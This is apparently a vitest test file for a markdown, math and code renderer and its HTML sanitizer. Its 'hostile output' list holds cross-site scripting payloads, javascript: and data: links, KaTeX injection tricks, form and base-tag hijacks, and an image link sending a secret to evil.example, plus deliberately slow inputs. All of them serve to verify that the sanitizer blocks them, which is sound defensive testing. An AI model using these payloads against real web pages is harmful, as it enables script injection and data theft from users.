// Markdown, math and code on the way to HTML, and what must never come through.
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { markdownBlocks } from "../src/core/markdown";
import { makeSanitizer } from "../src/core/sanitize";

const { window } = new JSDOM("");
const sanitize = makeSanitizer(window as never);
const html = (source: string) => markdownBlocks(source).map(sanitize).join("");

function dom(source: string): HTMLElement {
  const box = window.document.createElement("div");
  box.innerHTML = html(source);
  return box;
}

describe("markdown", () => {
  it("keeps earlier blocks the same while the text grows", () => {
    const text = "# One\n\ntwo **three**\n\n```js\nlet a = 1;\n```\n\n- x\n- y\n\nend";
    const whole = markdownBlocks(text);
    expect(whole).toHaveLength(5);
    for (let length = 1; length < text.length; ++length) {
      const blocks = markdownBlocks(text.slice(0, length));
      expect(blocks.slice(0, -1)).toEqual(whole.slice(0, blocks.length - 1));
    }
  });

  it("colors known languages and leaves unknown ones plain", () => {
    expect(html("```python\ndef f(): pass\n```")).toContain("hljs-keyword");
    expect(dom("```nonsense\n<b>x</b>\n```").querySelector("code")!.textContent).toBe("<b>x</b>\n");
    expect(dom("```\nopen fence <i>").querySelector("i")).toBeNull();
  });

  it("draws math in all four spellings and leaves money alone", () => {
    for (const math of ["$x^2$", "\\(x^2\\)", "$$x^2$$", "\\[x^2\\]", "$$\nx^2\n$$", "- $x^2$"]) expect(html(math), math).toContain('class="katex"');
    expect(html("$$\nx\n$$")).toContain("katex-display");
    for (const money of ["$5 and $6", "costs 5$ or 6$", "`$x$`", "a $ b $ c", "\\$x\\$"]) expect(html(money), money).not.toContain("katex");
    expect(html("$\\frac{$")).not.toContain("<script");
  });

  it("keeps the alignment of tables and no other style", () => {
    expect(dom("| a |\n| ---: |\n| 1 |").querySelector("td")!.getAttribute("style")).toBe("text-align:right");
    expect(sanitize('<p style="position:fixed">x</p><td style="text-align:right;position:fixed">')).not.toContain("style");
  });
});

describe("hostile output", () => {
  const attacks = [
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>", "<iframe srcdoc='<script>1</script>'></iframe>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>1</script>)", "[x](vbscript:x)", "<javascript:alert(1)>",
    "![x](javascript:alert(1))", "![x](https://evil.example/?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](//evil.example/a.png)",
    '```"><img src=x onerror=alert(1)>\ncode\n```', "```html\n<script>alert(1)</script>\n```", '[x](https://a.example "onmouseover=alert(1)")',
    "$\\href{javascript:alert(1)}{x}$", "$\\htmlStyle{position:fixed}{x}$", "$\\includegraphics{https://evil.example/a.png}$", "$\\url{javascript:alert(1)}$",
    "$$\\def\\a{\\a\\a}\\a$$", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<form action=https://evil.example><input name=q>",
    '<a href="https://a.example" style="position:fixed;inset:0">x</a>', "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>",
  ];

  it.each(attacks)("is harmless: %s", (attack) => {
    // As markdown, and as if the markdown step had let it through.
    for (const box of [dom(attack), Object.assign(window.document.createElement("div"), { innerHTML: sanitize(attack) })]) {
      expect(box.querySelector("script,iframe,object,embed,form,base,meta,link,svg[onload],style")).toBeNull();
      for (const node of box.querySelectorAll("*")) {
        for (const { name, value } of node.attributes) {
          expect(name.startsWith("on"), `${node.nodeName} ${name}`).toBe(false);
          if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
          if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
          if (name === "style" && !node.closest(".katex")) expect(value).toMatch(/^text-align/);
          if (name === "style") expect(value).not.toMatch(/position:\s*fixed|url\(/);
        }
      }
    }
  });

  it("opens links apart from the page and tells them nothing", () => {
    const link = dom("[x](https://a.example)").querySelector("a")!;
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toContain("noreferrer");
  });

  it("shows a picture only if it carries its bytes", () => {
    expect(dom("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")!.getAttribute("alt")).toBe("dot");
    const elsewhere = dom("![spy](https://evil.example/a.png)");
    expect(elsewhere.querySelector("img")).toBeNull();
    expect(elsewhere.querySelector("a")!.textContent).toBe("spy");
  });

  it("stays quick on text made to be slow", () => {
    const started = Date.now();
    for (const evil of ["*a ".repeat(5000), "[".repeat(5000), "$".repeat(5000), "> ".repeat(500) + "x", "`".repeat(5000), "\\[".repeat(3000), "$a ".repeat(3000)]) markdownBlocks(evil);
    expect(Date.now() - started).toBeLessThan(3000);
  });
});
